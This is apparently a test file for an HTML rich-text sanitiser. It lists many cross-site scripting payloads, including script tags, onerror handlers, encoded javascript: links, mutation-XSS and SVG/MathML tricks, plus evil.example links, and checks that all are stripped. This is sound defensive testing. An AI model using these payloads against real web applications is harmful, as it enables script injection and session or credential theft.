import { describe, expect, it } from 'vitest';
import { TEXT_FORMS } from '#tests/support/text-forms.ts';
import { type HtmlNode, parseHtml } from './html-tree.ts';
import { allowedLink } from './link-address.ts';
import { plainText } from './plain-text.ts';
import { presentRichText } from './present-rich-text.ts';
import { RICH_TEXT_ATTRIBUTES } from './rich-text-model.ts';
import { sanitizeRichText } from './sanitize-rich-text.ts';

const settings = { publicUrl: 'https://pamoja.test', assetOrigin: '' };
const image = `/uploads/${'k'.repeat(43)}/1200x800.webp`;
const attributesOf = new Map<string, readonly string[]>(Object.entries(RICH_TEXT_ATTRIBUTES));

/** Returns the elements, attributes and addresses of a text that the model does not allow. */
function violations(nodes: readonly HtmlNode[]): string[] {
  return nodes.flatMap((node) => {
    if (typeof node === 'string') return [];
    const allowed = attributesOf.get(node.tag);
    if (!allowed) return [`<${node.tag}>`];
    const attributes = Object.entries(node.attributes).flatMap(([name, value]) => {
      if (!allowed.includes(name)) return [`${node.tag}[${name}]`];
      if (name === 'href' && allowedLink(value) === null) return [value];
      if (name === 'src' && value !== image) return [value];
      return [];
    });
    return [...attributes, ...violations(node.children)];
  });
}

/** Sanitises, and checks that the result keeps to the model and is unchanged when sanitised again. */
function sanitized(html: string): string {
  const result = sanitizeRichText(html, settings);
  expect(violations(parseHtml(result))).toEqual([]);
  expect(sanitizeRichText(result, settings)).toBe(result);
  return result;
}

describe('a script', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example></SCRIPT>',
    '<script/x>alert(1)</script/x>',
    '<script>alert(1)',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1)//<</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="alert(1)"/onload=alert(1)>',
    `<img src="${image}" onload=alert(1)>`,
    '<img """><script>alert(1)</script>">',
    '<img src=x:alert(alt) onerror=eval(src) alt=0>',
    '<image src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1) /><a>x</a></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/></svg>',
    '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    "<a href='javascript:alert(1)'>x</a>",
    '<a href=javascript:alert(1)>x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="https://exemple.org" onclick=alert(1) style="x:expression(alert(1))" ping="https://evil.example">x</a>',
    '<a href="/x" target="_blank" download="x" formaction="javascript:alert(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe><img src=x onerror=alert(1)></iframe>',
    '<object data="javascript:alert(1)"><embed src="javascript:alert(1)"></object>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<body onload=alert(1)>',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<x onclick=alert(1)>x</x>',
    '<img srcset="https://evil.example/x 1x" src="x">',
    '<p/onclick=alert(1)>x</p>',
    '<p onclick\u0000=alert(1)>x</p>',
    '<p \u0000onclick=alert(1)>x</p>',
    '<a\u0000 href="javascript:alert(1)">x</a>',
    '<a href="/x" href="javascript:alert(1)">x</a>',
    '<template><script>alert(1)</script></template>',
    '<slot onslotchange=alert(1)></slot>',
    '<portal src="https://evil.example">',
  ])('is removed: %s', (html) => {
    expect(sanitized(html)).not.toMatch(/<[^>]*(script|alert|evil)/i);
  });

  /** Mutation XSS: one parser reads these as harmless, another one, after serialising, as a script. */
  it.each([
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg><desc><table><thead><title><style></svg><img src=1 onerror=alert(1)>',
    '<textarea></textarea/><img src=x onerror=alert(1)>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<select><style></select><img src=x onerror=alert(1)></style>',
    '<a href="/x">a<table><tr><td><a href="javascript:alert(1)">b</table>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml <img src=x onerror=alert(1)>?>',
    '<p title="`"><img src=x onerror=alert(1)>`</p>',
    '&lt;img src=x onerror=alert(1)&gt;',
    '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
    '<plaintext><img src=x onerror=alert(1)>',
    '<<svg>script>alert(1)<</svg>/script>',
    '<svg><svg><b><table><svg></table></b><style><img src=x onerror=alert(1)></style>',
  ])('does not appear when the result is parsed again: %s', (html) => {
    const result = sanitized(html);
    expect(result).not.toMatch(/<[^>]*onerror|<script/i);
    expect(presentRichText(result, { assetOrigin: '' })).not.toMatch(/<[^>]*onerror|<script/i);
  });
});

describe('names of the object prototype', () => {
  it.each([
    '<__proto__>x</__proto__><constructor>y</constructor><hasOwnProperty>z</hasOwnProperty>',
    '<p __proto__="x" constructor="y" toString="z" hasownproperty="w">text</p>',
    '<a href="/x" __proto__="javascript:alert(1)">text</a>',
    '<toString><valueOf><prototype>text',
  ])('are no elements or attributes: %s', (html) => {
    expect(sanitized(html)).not.toMatch(/<[^>]*(proto|constructor|tostring)/i);
  });
});

/** In texts such as these a step may take quadratic time: `npm run bench -- texts` measures how it grows. */
describe('a long text', () => {
  it.each(Object.entries(TEXT_FORMS))(
    'keeps to the model: %s',
    (_what, text) => {
      const result = sanitizeRichText(text(400_000), settings);
      plainText(result);
      presentRichText(result, { assetOrigin: '' });
      expect(violations(parseHtml(result))).toEqual([]);
    },
    60_000,
  );
});

describe('random HTML', () => {
  const PIECES = [
    ...'p br h1 h2 h4 strong b em i u s del ul ol li blockquote a hr table thead tbody tr th td figure figcaption img code pre sub sup div span section'.split(
      ' ',
    ),
    ...'svg math style script title textarea noscript iframe template caption form select option foreignObject mtext'.split(
      ' ',
    ),
  ].flatMap((tag) => [
    `<${tag}>`,
    `<${tag}>`,
    `</${tag}>`,
    `<${tag} href="/a" src="${image}" onclick=x()>`,
    `<${tag}/>`,
  ]);
  const TEXTS = [
    'a',
    'b ',
    ' ',
    '\n',
    '\n\n',
    '&lt;script&gt;',
    '&amp;',
    '\u00a0',
    'e',
    '\u0301',
    '<',
    '>',
    '"',
    "'",
    '&#0;',
    '-->',
    '<!--',
    '<![CDATA[',
    ']]>',
    '\u0000',
    '\ud800',
    '</',
    '<x',
  ];

  /** Returns a pseudo-random generator, the same for a seed (Numerical Recipes, `ranqd1`). */
  function seededRandom(seed: number): (below: number) => number {
    let state = seed;
    return (below) => {
      state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
      return Math.floor((state / 2 ** 32) * below);
    };
  }

  it('keeps to the model and is unchanged when sanitised again', () => {
    const upTo = seededRandom(20_260_302);
    const pick = (list: readonly string[]) => list[upTo(list.length)] ?? '';
    for (let count = 0; count < 5_000; count += 1) {
      const length = 1 + upTo(25);
      sanitized(Array.from({ length }, () => pick(upTo(3) === 0 ? TEXTS : PIECES)).join(''));
    }
  }, 120_000);
});
